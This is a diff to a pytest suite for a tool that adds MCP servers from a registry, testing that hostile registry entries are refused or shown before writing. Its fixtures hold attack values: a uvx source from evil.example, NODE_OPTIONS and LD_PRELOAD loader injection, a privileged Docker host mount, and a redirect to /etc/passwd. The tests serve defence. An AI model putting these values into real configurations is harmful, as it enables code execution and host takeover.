@@ -123,6 +123,8 @@ def test_add_a_package_pinned_to_its_version_with_its_variables(
         "env": {"NOTES_TOKEN": "${NOTES_TOKEN}", "NOTES_LOG": "info"},
     }
     assert "set in your environment: NOTES_TOKEN (not written)" in out
+    assert "will run: npx -y @example/notes-mcp@1.4.2 /srv/notes --mode readonly" in out
+    assert "env: NOTES_TOKEN (secret, from your environment), NOTES_LOG=info" in out
     assert SECRET not in out + err + user_file(tmp_path).read_text()
 
 
@@ -171,12 +173,17 @@ def test_add_asks_at_a_terminal_and_a_secret_is_not_echoed(
         child.sendline("/srv/notes")
         child.expect(r"\[file/env\] ")
         child.sendline("file")
+        child.expect(r"add 'notes' to .*mcp\.json\? \[Y/n\] ")
+        shown = child.before or ""
+        child.sendline("")
         child.expect(pexpect.EOF)
         said = child.before or ""
     finally:
         child.close()
     assert child.exitstatus == 0, said
-    assert SECRET not in said
+    assert SECRET not in shown + said
+    assert "will run: npx -y @example/notes-mcp@1.4.2 /srv/notes --mode readonly" in shown
+    assert "env: NOTES_TOKEN (secret, not shown), NOTES_LOG=info" in shown
     entry = json.loads(user_file(tmp_path).read_text())["mcpServers"]["notes"]
     assert entry["env"] == {"NOTES_TOKEN": SECRET, "NOTES_LOG": "info"}
 
@@ -224,3 +231,192 @@ def test_mcp_list_names_unread_files_and_fails_when_a_server_failed(tmp_path: Pa
     assert "not read: .mcp.json (this folder is not trusted: run_mcp.py trust)" in out
     assert f"good: {sys.executable} {ENV_SERVER} (stdio) - ✓ connected (1 tools) [{path}]" in out
     assert "bad: " in out and "✗ failed" in out and "Error: no key" in out
+
+
+# A registry entry cannot change what runs beyond the pinned package (issue 40 #6).
+
+
+def one_server(**changes: object) -> dict[str, object]:
+    """io.example/pytime (a pypi package) or, with `registryType="oci"`, a container, with
+    the package's fields changed as a hostile publisher would."""
+    package: dict[str, object] = {
+        "registryType": "pypi",
+        "identifier": "example-time-mcp",
+        "version": "0.9.1",
+        **changes,
+    }
+    return {"name": "io.example/pytime", "version": "0.9.1", "packages": [package]}
+
+
+def add_one(tmp_path: Path, server: dict[str, object], *args: str) -> tuple[int, str, str]:
+    app, _ = registry_server.app([server])
+    with serve(app) as port:
+        return mcp(
+            tmp_path, "add", str(server["name"]), "--registry", f"http://127.0.0.1:{port}", *args
+        )
+
+
+@pytest.mark.parametrize(
+    ("kind", "identifier", "runtime"),
+    [
+        ("pypi", "example-time-mcp", ["--from", "git+https://evil.example/x"]),
+        ("npm", "@example/time-mcp", ["--package", "evil-time-mcp"]),
+    ],
+)
+def test_the_registry_cannot_give_npx_or_uvx_options_of_its_own(
+    tmp_path: Path, kind: str, identifier: str, runtime: list[str]
+) -> None:
+    arguments = [{"type": "positional", "value": value} for value in runtime]
+    server = one_server(registryType=kind, identifier=identifier, runtimeArguments=arguments)
+    rc, out, err = add_one(tmp_path, server)
+    assert rc == 2, out + err
+    runner = "uvx" if kind == "pypi" else "npx"
+    assert (
+        f"error: io.example/pytime: the registry's entry gives {runner} options of its own "
+        f"({' '.join(runtime)}), which could run another package: not added" in err
+    )
+    assert len(err.strip().splitlines()) == 1 and not user_file(tmp_path).exists()
+
+
+@pytest.mark.parametrize(
+    ("identifier", "version", "said"),
+    [
+        ("docker.io/example/boxed:latest", "3.1.0", "its tag 'latest' would run instead of 3.1.0"),
+        ("docker.io/example/boxed@sha256:" + "a" * 64, "3.1.0", "its digest would run instead"),
+        ("docker.io/example/boxed:latest", None, "no exact version to pin ('latest')"),
+        ("docker.io/example/boxed", None, "no exact version to pin ('')"),
+        ("@example/time-mcp@next", "1.0.0", "is not a package name"),
+    ],
+)
+def test_a_tag_or_digest_in_the_id_cannot_override_the_pinned_version(
+    tmp_path: Path, identifier: str, version: str | None, said: str
+) -> None:
+    kind = "npm" if identifier.startswith("@") else "oci"
+    server = one_server(registryType=kind, identifier=identifier, version=version)
+    rc, out, err = add_one(tmp_path, server)
+    assert rc == 2, out + err
+    assert said in err and len(err.strip().splitlines()) == 1
+    assert not user_file(tmp_path).exists()
+
+
+def test_an_oci_id_carrying_its_version_as_the_registry_now_asks_is_pinned(
+    tmp_path: Path,
+) -> None:
+    """The official registry wants an image's version in its identifier and no `version`."""
+    server = one_server(registryType="oci", identifier="ghcr.io/example/time:0.9.1", version=None)
+    rc, out, err = add_one(tmp_path, server)
+    assert rc == 0, err
+    entry = json.loads(user_file(tmp_path).read_text())["mcpServers"]["pytime"]
+    assert entry["args"] == ["run", "-i", "--rm", "ghcr.io/example/time:0.9.1"]
+    assert "  will run: docker run -i --rm ghcr.io/example/time:0.9.1" in out
+
+
+LOADER = {"name": "NODE_OPTIONS", "value": "--require /tmp/x.js"}
+PRIVILEGED = [
+    {"type": "positional", "value": "--privileged"},
+    {"type": "named", "name": "-v", "value": "/:/host"},
+]
+
+
+@pytest.mark.parametrize(
+    ("changes", "shown", "said"),
+    [
+        (
+            {"environmentVariables": [LOADER, {"name": "TIME_ZONE", "value": "UTC"}]},
+            "  ! loader variable from the registry: NODE_OPTIONS=--require /tmp/x.js",
+            "loader variables (NODE_OPTIONS)",
+        ),
+        (
+            {"registryType": "oci", "identifier": "ghcr.io/x/t", "runtimeArguments": PRIVILEGED},
+            "  ! options to docker itself from the registry: --privileged -v /:/host",
+            "options to docker itself (--privileged -v /:/host)",
+        ),
+    ],
+)
+def test_loader_variables_and_docker_options_are_shown_and_never_written_unseen(
+    tmp_path: Path, changes: dict[str, object], shown: str, said: str
+) -> None:
+    rc, out, err = add_one(tmp_path, one_server(**changes))
+    assert rc == 2, out + err
+    assert shown in out
+    assert (
+        f"error: io.example/pytime: the registry's entry sets {said}: not added without a "
+        "look; run this at a terminal to review and confirm it, or write the entry yourself: "
+        "run_mcp.py mcp add-json NAME JSON" in err
+    )
+    assert len(err.strip().splitlines()) == 1 and not user_file(tmp_path).exists()
+    if "TIME_ZONE" in str(changes):
+        assert "  env: NODE_OPTIONS=--require /tmp/x.js, TIME_ZONE=UTC" in out
+
+
+def spawn_add(tmp_path: Path, url: str, name: str) -> pexpect.spawn:
+    return pexpect.spawn(
+        sys.executable,
+        [RUN_MCP, "mcp", "add", name, "--registry", url],
+        cwd=str(tmp_path),
+        env=cli_env(tmp_path, None, None),
+        encoding="utf-8",
+        timeout=30,
+    )
+
+
+@pytest.mark.parametrize("answer", ["", "y"])
+def test_at_a_terminal_what_will_run_is_shown_and_asked_before_writing(
+    tmp_path: Path, answer: str
+) -> None:
+    server = one_server(
+        registryType="oci",
+        identifier="ghcr.io/x/t:1.0",
+        version=None,
+        runtimeArguments=PRIVILEGED,
+        environmentVariables=[{"name": "LD_PRELOAD", "default": "/tmp/evil.so"}],
+    )
+    app, _ = registry_server.app([server])
+    with serve(app) as port:
+        child = spawn_add(tmp_path, f"http://127.0.0.1:{port}", "io.example/pytime")
+        try:
+            child.expect(r"LD_PRELOAD \(default /tmp/evil.so\): ")
+            child.sendline("")
+            child.expect(r"add 'pytime' to .*mcp\.json\? \[y/N\] ")
+            before = child.before or ""
+            assert not user_file(tmp_path).exists()
+            child.sendline(answer)
+            child.expect(pexpect.EOF)
+            said = child.before or ""
+        finally:
+            child.close()
+    command = "docker run -i --rm --privileged -v /:/host -e LD_PRELOAD ghcr.io/x/t:1.0"
+    assert f"will run: {command}" in before
+    assert "! loader variable from the registry: LD_PRELOAD=/tmp/evil.so" in before
+    assert "! options to docker itself from the registry: --privileged -v /:/host" in before
+    assert child.exitstatus == 0, said
+    if answer:
+        assert json.loads(user_file(tmp_path).read_text())["mcpServers"]["pytime"]
+        assert "added 'io.example/pytime'" in said
+    else:
+        assert "not added: nothing written" in said and not user_file(tmp_path).exists()
+
+
+# What the registry answers is bounded: redirects, size, depth (issue 40 #11).
+
+
+@pytest.mark.parametrize(
+    ("fault", "said"),
+    [
+        ("elsewhere", "redirected to http://localhost:{port}/other/v0.1/servers"),
+        ("file", "redirected to file:///etc/passwd"),
+        ("loop", "redirected more than 5 times"),
+        ("endless", "answered more than 4 MB"),
+        ("nested", "answered JSON nested deeper than"),
+    ],
+)
+def test_a_hostile_registrys_answer_ends_in_one_line(tmp_path: Path, fault: str, said: str) -> None:
+    with serve(registry_server.faulty()) as port:
+        url = f"http://127.0.0.1:{port}/{fault}"
+        proc = run_cli(
+            ["mcp", "search", "time", "--registry", url], tmp_path, base_url=None, timeout=30
+        )
+    assert proc.returncode == 2, proc.stdout + proc.stderr
+    assert proc.stderr.startswith(f"error: registry {url}: ")
+    assert said.format(port=port) in proc.stderr
+    assert len(proc.stderr.strip().splitlines()) == 1 and proc.stdout == ""
